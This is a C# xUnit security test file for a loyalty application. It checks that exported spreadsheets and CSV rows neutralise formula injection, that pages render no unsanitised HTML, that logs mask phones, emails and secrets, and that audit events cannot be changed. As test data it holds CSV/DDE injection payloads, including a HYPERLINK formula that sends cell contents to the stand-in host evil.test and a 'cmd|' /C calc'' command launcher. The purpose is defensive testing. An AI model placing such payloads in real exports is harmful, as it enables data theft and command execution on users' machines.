using System.Text.Json;
using System.Text.RegularExpressions;
using ClosedXML.Excel;
using Loyalty.Core.Audit;
using Loyalty.Core.Common;
using Loyalty.Tests.Infrastructure;
using Loyalty.Web.Infrastructure;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Abstractions;

namespace Loyalty.Tests.Production;

/// <summary>Hostile input, exports, logs and the audit trail (docs/security/asvs-l2.md names the requirement each proves).</summary>
public class SecurityBatteryTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1,1)")]
    [InlineData("\t=1+1")]
    public void A_formula_typed_by_a_user_stays_text_in_an_exported_workbook(string hostile)
    {
        var safe = SpreadsheetText.Safe(hostile);
        Assert.StartsWith("'", safe);
        using var stream = new MemoryStream();
        using (var book = new XLWorkbook())
        {
            book.AddWorksheet("x").Cell(1, 1).Value = safe;
            book.SaveAs(stream);
        }
        stream.Position = 0;
        using var read = new XLWorkbook(stream);
        var cell = read.Worksheet(1).Cell(1, 1);
        Assert.False(cell.HasFormula);
        Assert.Contains(hostile.TrimStart('\t'), cell.GetString());
    }

    [Theory]
    [InlineData("Dana", "Dana")]
    [InlineData("", "")]
    [InlineData("Café 24/7 -", "Café 24/7 -")]
    public void Ordinary_text_is_exported_as_typed(string text, string expected) => Assert.Equal(expected, SpreadsheetText.Safe(text));

    [Fact]
    public void Every_export_goes_through_the_formula_guard()
    {
        // The mechanism decides, not a list of files: a workbook leaves the app only through SafeWorkbook.Save (which
        // neutralises every cell, however it was filled), and CSV rows are composed only through CsvText. So any file
        // that saves a workbook must do it through SafeWorkbook, and any file that composes delimited rows for a CSV must
        // do it through CsvText. Files that only stream bytes another writer made (downloads of stored files) compose
        // nothing and need nothing.
        var root = AppProcess.SolutionRoot();
        var offenders = Directory.EnumerateFiles(root, "*.cs", SearchOption.AllDirectories)
            .Where(f => f.Contains("/Loyalty.Web/") || f.Contains("/Loyalty.Core/"))
            .Where(f => !f.Contains("/obj/") && !f.Contains("/bin/") && !f.EndsWith("/Exports/SafeWorkbook.cs"))
            .Select(f => (Name: Path.GetFileName(f), Source: File.ReadAllText(f)))
            .SelectMany(f =>
            {
                var problems = new List<string>();
                if (Regex.IsMatch(f.Source, @"\.SaveAs\(") && Regex.IsMatch(f.Source, @"XLWorkbook|IXLWorkbook"))
                    problems.Add($"{f.Name} saves a workbook itself instead of through SafeWorkbook.Save");
                var composesRows = Regex.IsMatch(f.Source, @"(Append|Write)\(\s*(','|"",""|""\t"")\s*\)|WriteLine(Async)?\(\$""[^""]*\{[^}]+\},\{");
                if (composesRows && Regex.IsMatch(f.Source, "csv", RegexOptions.IgnoreCase) && !f.Source.Contains("CsvText."))
                    problems.Add($"{f.Name} composes CSV rows without CsvText");
                return problems;
            })
            .ToList();
        Assert.True(offenders.Count == 0, string.Join("\n", offenders));
    }

    [Fact]
    public void A_workbook_saved_through_the_guard_holds_no_formula_whatever_the_exporter_wrote()
    {
        using var book = new ClosedXML.Excel.XLWorkbook();
        var sheet = book.AddWorksheet("Export");
        sheet.Cell(1, 1).FormulaA1 = "HYPERLINK(\"http://evil.test/?\"&B1)";
        sheet.Cell(1, 2).SetValue("=cmd|' /C calc'!A0");
        sheet.Cell(1, 3).SetValue("+77010000001");
        sheet.Cell(1, 4).SetValue("Dana");
        sheet.Cell(1, 5).Value = 42;
        using var stream = new MemoryStream();
        Loyalty.Web.Exports.SafeWorkbook.Save(book, stream);

        stream.Position = 0;
        using var saved = new ClosedXML.Excel.XLWorkbook(stream);
        var row = saved.Worksheet("Export").Row(1);
        Assert.All(row.CellsUsed(), c => Assert.False(c.HasFormula));
        Assert.Equal("'=HYPERLINK(\"http://evil.test/?\"&B1)", row.Cell(1).GetString());
        Assert.Equal("'=cmd|' /C calc'!A0", row.Cell(2).GetString());
        Assert.Equal("'+77010000001", row.Cell(3).GetString());
        Assert.Equal("Dana", row.Cell(4).GetString());
        Assert.Equal(42, row.Cell(5).GetDouble());
    }

    [Fact]
    public void Csv_rows_are_formula_safe_and_quoted_and_generated_values_keep_their_bytes()
    {
        Assert.Equal("17,3", CsvText.Row(17L, 3));
        Assert.Equal("'=1+1,\"Smith, \"\"Jr\"\"\",-5", CsvText.Row("=1+1", "Smith, \"Jr\"", -5));
        var writer = new StringWriter();
        CsvText.Write(writer, "@SUM(A1)");
        writer.Write(',');
        CsvText.Write(writer, "ABCD-EFGH");
        Assert.Equal("'@SUM(A1),ABCD-EFGH", writer.ToString());
    }

    [Fact]
    public void No_page_renders_raw_html_unless_it_is_sanitised()
    {
        // Razor encodes everything it renders; MarkupString switches that off. Files listed here sanitise with
        // HtmlSanitizer before they render; any other use fails until it does.
        // VirtualCardPanel renders SVG that CardCodes draws itself from the card token (digits and letters we generate).
        var sanitised = new HashSet<string> { "VirtualCardPanel.razor" };
        var root = Path.Combine(AppProcess.SolutionRoot(), "Loyalty.Web");
        var raw = Directory.EnumerateFiles(root, "*.*", SearchOption.AllDirectories)
            .Where(f => (f.EndsWith(".razor") || f.EndsWith(".cs")) && !f.Contains("/obj/") && !f.Contains("/bin/"))
            .Where(f => File.ReadAllText(f).Contains("MarkupString") && !sanitised.Contains(Path.GetFileName(f)))
            .Select(Path.GetFileName).ToList();
        Assert.True(raw.Count == 0, "Raw HTML rendered by: " + string.Join(", ", raw));
    }

    [Fact]
    public void Phones_emails_and_secrets_are_masked_in_text_bound_for_logs()
    {
        var line = PersonalData.Redact(
            "Sent code to +77010000001 and dana.k@example.com; password=Hunter2! api_key: abc123 Authorization: Bearer eyJhbGciOi.J9 at 2026-11-24 02:16:28 for 1,234.50");
        Assert.DoesNotContain("77010000001", line);
        Assert.Contains("+77*******01", line);
        Assert.DoesNotContain("dana.k@", line);
        Assert.Contains("d***@example.com", line);
        Assert.DoesNotContain("Hunter2", line);
        Assert.DoesNotContain("abc123", line);
        Assert.DoesNotContain("eyJhbGciOi", line);
        Assert.Contains("2026-11-24 02:16:28", line);
        Assert.Contains("1,234.50", line);
    }

    [Fact]
    public void The_production_log_format_is_json_with_personal_data_masked()
    {
        var formatter = new RedactingConsoleFormatter();
        using var writer = new StringWriter();
        var entry = new LogEntry<string>(LogLevel.Warning, "Loyalty.Web.Messaging.SmtpEmailSender", new EventId(7),
            "SMTP refused a message to aigerim@example.kz for +77015550001", new InvalidOperationException("token=s3cr3t-value"), (s, _) => s);
        formatter.Write(entry, null, writer);
        using var json = JsonDocument.Parse(writer.ToString());
        var message = json.RootElement.GetProperty("Message").GetString()!;
        Assert.DoesNotContain("aigerim@", message);
        Assert.DoesNotContain("77015550001", message);
        Assert.DoesNotContain("s3cr3t-value", json.RootElement.GetProperty("Exception").GetString());
        Assert.Equal("Warning", json.RootElement.GetProperty("LogLevel").GetString());
    }

    [Fact]
    public void Nobody_can_edit_or_delete_the_audit_trail()
    {
        // The entity has no setter or method that changes a recorded event...
        var type = typeof(AuditEvent);
        Assert.All(type.GetProperties(), p => Assert.False(p.SetMethod?.IsPublic == true, $"{p.Name} has a public setter"));
        var methods = type.GetMethods(System.Reflection.BindingFlags.Public | System.Reflection.BindingFlags.Instance | System.Reflection.BindingFlags.DeclaredOnly);
        Assert.DoesNotContain(methods, m => !m.IsSpecialName);
        // ...and no code path updates or deletes one (EF, set-based or plain SQL).
        var root = AppProcess.SolutionRoot();
        var mutation = new Regex(@"AuditEvents\s*\.\s*(Remove|RemoveRange|Update|UpdateRange|Attach|ExecuteDelete|ExecuteUpdate)|(UPDATE|DELETE\s+FROM)\s+""?AuditEvents", RegexOptions.IgnoreCase);
        var offenders = Directory.EnumerateFiles(root, "*.*", SearchOption.AllDirectories)
            .Where(f => (f.EndsWith(".cs") || f.EndsWith(".razor")) && !f.Contains("/obj/") && !f.Contains("/bin/") && !f.Contains("/Migrations/") && !f.Contains("/Loyalty.Tests/"))
            .Where(f => mutation.IsMatch(File.ReadAllText(f)))
            .Select(Path.GetFileName).ToList();
        Assert.True(offenders.Count == 0, "Audit events changed by: " + string.Join(", ", offenders));
    }
}
